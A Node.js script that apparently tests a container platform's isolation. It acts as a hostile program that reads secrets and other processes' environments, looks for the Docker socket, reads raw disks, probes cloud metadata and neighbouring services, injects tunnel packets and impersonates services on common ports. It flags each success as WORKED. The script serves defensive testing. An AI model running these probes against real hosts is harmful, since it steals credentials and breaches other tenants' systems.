// Runs where an attacker's program would: in a container or in a step of a build. Tries all that a program can try from
// inside, prints what it reads, says WORKED of what it should not have been able to do, and LOOK-DONE at its end. Then it
// answers on the ports that others may take it for (with `once`, it ends).
import { spawnSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { lookup } from 'node:dns/promises'
import {
  accessSync,
  appendFileSync,
  constants,
  existsSync,
  mkdirSync,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  statSync,
} from 'node:fs'
import { request } from 'node:http'
import { connect, createServer } from 'node:net'
import { setPriority } from 'node:os'
import { join } from 'node:path'

const once = process.argv.includes('once')
const words = JSON.parse(readFileSync('/words.json', 'utf8'))
const PATIENCE_MS = 1500
const say = (...all) => console.log(...all)
const quietly = (work) => {
  try {
    return work()
  } catch {
    return undefined
  }
}
const textOf = (path) => quietly(() => readFileSync(path, 'utf8').slice(0, 2000))

/** What the platform gives: what the engine gives to every container, less what almost none needs; a build's step gets all. */
const GIVEN = [0, 1, 3, 4, 5, 6, 7, 8, 10, 14, 18, 27, 29, 31, ...(once ? [13] : [])]

function rights() {
  const status = textOf('/proc/self/status') ?? ''
  const field = (name) => new RegExp(`^${name}:\\s*(\\S+)`, 'm').exec(status)?.[1] ?? ''
  const held = Array.from({ length: 64 }, (_, bit) => bit).filter(
    (bit) => (BigInt(`0x${field('CapEff')}`) >> BigInt(bit)) & 1n,
  )
  const more = held.filter((bit) => !GIVEN.includes(bit))
  say('rights', field('CapEff'), 'seccomp', field('Seccomp'), 'no new', field('NoNewPrivs'))
  if (more.length > 0) say('WORKED has the capabilities', more.join())
  if (field('Seccomp') !== '2') say('WORKED runs without a filter of system calls')
  if (Number(textOf('/proc/self/oom_score_adj')) < 0) say('WORKED outlives others when memory ends')
  if (quietly(() => setPriority(-5) ?? true)) say('WORKED goes before others')
  for (const file of ['/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper'])
    if (quietly(() => accessSync(file, constants.W_OK) ?? true)) say('WORKED may write', file)
  if (quietly(() => mkdirSync('/sys/fs/cgroup/memory/mine') ?? true)) say('WORKED made a control group')
  // A step of a build has the engine's own rights, and never a neighbour.
  if (!once) run('/arp', 'raw')
  quietly(() => mkdirSync('/tmp/mine', { recursive: true }))
  run('mount', '-t', 'tmpfs', 'mine', '/tmp/mine').ok && say('WORKED mounted a file system')
  if (run('chrt', '-f', '1', 'true').ok) say('WORKED runs in real time')
}

function run(program, ...args) {
  const { status, stdout = '', stderr = '' } = spawnSync(program, args, { encoding: 'utf8', timeout: 3000 })
  const printed = `${stdout ?? ''}${stderr ?? ''}`.trim()
  if (printed.includes('WORKED')) say(printed)
  return { ok: status === 0, printed }
}

/** Everything that a mount may have brought, and what could be written there. */
function files() {
  const places = [
    '/m',
    '/c',
    '/host',
    '/data',
    '/run/secrets',
    '/mnt',
    '/stolen',
    ...names('/m').map((name) => `/m/${name}`),
  ]
  for (const place of places) {
    for (const file of [
      place,
      join(place, 'secret'),
      ...(place === '/run/secrets' ? names(place).map((n) => join(place, n)) : []),
    ]) {
      if (quietly(() => statSync(file).isFile())) say('file', file, textOf(file)?.slice(0, 300))
    }
  }
  if (existsSync('/m/secret')) {
    quietly(() => appendFileSync('/m/secret', 'overwritten\n'))
    quietly(() => appendFileSync('/m/written', 'written\n'))
  }
  for (const socket of ['/var/run/docker.sock', '/run/docker.sock', '/m/docker.sock', '/m'])
    if (quietly(() => statSync(socket).isSocket())) say('WORKED has the socket', socket)
}

const names = (folder) => quietly(() => readdirSync(folder).slice(0, 50)) ?? []

/** Other processes: who they are, what they were started with, what they see. */
function processes() {
  for (const pid of names('/proc').filter((name) => /^\d+$/.test(name))) {
    const environment = textOf(`/proc/${pid}/environ`) ?? ''
    say('environment', pid, environment.replaceAll('\0', ' ').slice(0, 1500))
    if (/dockerd|containerd|tini/.test(textOf(`/proc/${pid}/cmdline`) ?? '') && pid !== '1')
      say('WORKED sees the process', pid)
    const through = textOf(`/proc/${pid}/root${words.hostFolder}/secret`)
    if (through) say('file through', pid, through)
  }
  const odd = names('/sys/class/net').filter(
    (name) => !/^(lo|eth\d+|gre0|tunl0|sit0|ip6\w+|erspan0|gretap0|ip_vti0|ip6_vti0)$/.test(name),
  )
  if (odd.length > 0) say('WORKED sees the interfaces', odd.join())
}

function devices() {
  const disks = names('/dev').filter((name) => quietly(() => statSync(`/dev/${name}`).isBlockDevice()))
  if (disks.length > 0) say('WORKED has the disks', disks.join())
  for (const major of ['254', '253', '252', '8', '7']) {
    run('mknod', `/tmp/disk${major}`, 'b', major, '0')
    if (quietly(() => readSync(openSync(`/tmp/disk${major}`, 'r'), Buffer.alloc(512))))
      say('WORKED reads the disk', major)
  }
}

/** What a port says, to a question of HTTP or by itself. */
function ask(address, port, question) {
  return new Promise((done) => {
    let heard = ''
    const socket = connect(port, address)
    const end = (how) => {
      socket.destroy()
      done({ open: how !== 'closed', heard })
    }
    socket.setTimeout(PATIENCE_MS, () => end(heard === '' && socket.connecting ? 'closed' : 'open'))
    socket.on('connect', () => socket.write(question))
    socket.on('data', (bytes) => {
      heard += bytes.toString('latin1').slice(0, 2000)
    })
    socket.on('error', () => end('closed')).on('end', () => end('open'))
  })
}

const get = (path, headers = '') => `GET ${path} HTTP/1.0\r\nHost: x\r\n${headers}\r\n`

async function network() {
  const route = /default via (\S+)/.exec(run('ip', 'route').printed)?.[1]
  const hosts = [...new Set([route, ...words.machine, '127.0.0.1'].filter(Boolean))]
  const tries = hosts.flatMap((host) => [
    [host, words.controlPort, get('/readyz'), 'the control plane'],
    ...[2375, 2376].map((port) => [host, port, get('/info'), 'the engine']),
    ...[2377, 7946].map((port) => [host, port, '', null]),
    [host, 2019, get('/config/'), 'a proxy’s own API'],
    [host, words.loopback, get('/'), 'a service of the machine'],
  ])
  tries.push([words.metadata, 80, get('/latest/'), 'metadata'])
  for (const address of words.victims)
    for (const port of [8000, 9999, 5432, 2019]) tries.push([address, port, get('/'), 'a port of another project'])
  for (const address of words.edges)
    tries.push(
      [address, 2019, get('/config/'), 'a proxy’s own API'],
      [address, 9080, get('/cert'), 'a proxy’s own API'],
    )
  await Promise.all(
    tries.map(async ([host, port, question, whose]) => {
      const { open, heard } = await ask(host, port, question)
      if (open)
        say(whose === null ? 'open' : `WORKED reached ${whose}:`, `${host}:${port}`, JSON.stringify(heard.slice(-200)))
    }),
  )
}

/** Names that belong to others, and whoever answers to them. */
async function lookUp() {
  await Promise.all(
    words.names.map(async (name) => {
      const found = await Promise.race([
        lookup(name, { all: true }).catch(() => []),
        new Promise((done) => setTimeout(done, 4000, [])),
      ])
      for (const { address } of found) {
        say('name', name, address)
        for (const port of [9999, 5432, 8000]) {
          const { heard } = await ask(address, port, get('/'))
          if (heard !== '') say('heard', name, port, JSON.stringify(heard.slice(-200)))
        }
      }
    }),
  )
}

/** Where edge and gateways meet: each socket leads into a project. */
async function sockets() {
  for (const name of names('/m').filter((one) => one.endsWith('.sock'))) {
    const heard = await new Promise((done) => {
      const headers = { 'slipway-service': 'web', 'slipway-port': '9999', 'slipway-also': '' }
      const asked = request({ socketPath: `/m/${name}`, path: '/', headers, timeout: PATIENCE_MS })
      asked.on('response', async (answer) => done(Buffer.concat(await answer.toArray()).toString()))
      asked.on('error', () => done('')).on('timeout', () => asked.destroy())
      asked.end()
    })
    say('socket', name, heard)
  }
}

/** Packets in the wrapping of the machine's own tunnels. */
async function tunnels() {
  const socket = createSocket('udp4').on('error', () => {})
  const sends = words.machine.flatMap((host) => words.packets.map((packet) => [Buffer.from(packet, 'hex'), host]))
  await Promise.all(sends.map(([packet, host]) => new Promise((done) => socket.send(packet, 4789, host, done))))
  socket.close()
}

/** Whoever takes this container for somebody else gives away what it says. */
function take() {
  for (const port of [80, 5432, 8000, 53]) {
    const server = createServer((socket) => {
      socket.on('error', () => {})
      socket.on('data', (bytes) => {
        say('taken', port, JSON.stringify(bytes.toString('latin1').slice(0, 1000)))
        socket.end('HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nattacker\n')
      })
    })
    server.on('error', () => {}).listen(port)
  }
}

// The first process of a container is not ended by a signal that it does not take.
process.on('SIGTERM', () => process.exit())
if (!once) take()
rights()
files()
processes()
devices()
await Promise.all([network(), lookUp(), sockets(), tunnels()])
say('LOOK-DONE')
